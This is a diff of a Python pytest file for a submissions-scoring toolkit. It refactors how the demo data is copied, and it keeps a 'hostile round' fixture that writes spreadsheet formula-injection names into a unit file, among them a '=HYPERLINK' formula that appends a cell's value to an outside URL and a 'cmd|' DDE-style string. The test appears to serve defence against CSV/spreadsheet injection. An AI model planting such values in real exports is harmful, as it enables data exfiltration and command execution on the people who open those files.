@@ -1,14 +1,11 @@
 """The demonstration round, and a round of units whose names would act on a spreadsheet."""
 
-import shutil
-from pathlib import Path
-
 import pytest
 
+from tests.contact_points import copy_to
 from toolkit.scoring.rounds import ScoredRound, score_rounds
 from toolkit.submissions.repository import Repository, open_repository
 
-DATA = Path(__file__).resolve().parents[2] / "data"
 KEY = ("keqiao-contact-point", "2018")
 
 
@@ -19,8 +16,8 @@ def scored_in(repository: Repository) -> ScoredRound:
 
 
 @pytest.fixture(scope="session")
-def demo() -> Repository:
-    return open_repository(DATA, "data")
+def demo(tmp_path_factory: pytest.TempPathFactory) -> Repository:
+    return open_repository(copy_to(tmp_path_factory.mktemp("demo") / "data"), "data")
 
 
 @pytest.fixture(scope="session")
@@ -31,8 +28,7 @@ def demo_round(demo: Repository) -> ScoredRound:
 @pytest.fixture(scope="session")
 def hostile_round(tmp_path_factory: pytest.TempPathFactory) -> ScoredRound:
     """The same round, in which a unit that is no demonstration has dangerous names."""
-    data = tmp_path_factory.mktemp("hostile") / "data"
-    shutil.copytree(DATA, data)
+    data = copy_to(tmp_path_factory.mktemp("hostile") / "data")
     (data / "units/keqiao-demo-food/unit.yml").write_text(
         "id: keqiao-demo-food\n"
         'name: {zh: "＝cmd|甲, \\"乙\\"", en: "=HYPERLINK(\\"http://x.org?\\"&A1,\\"go, on\\")"}\n'
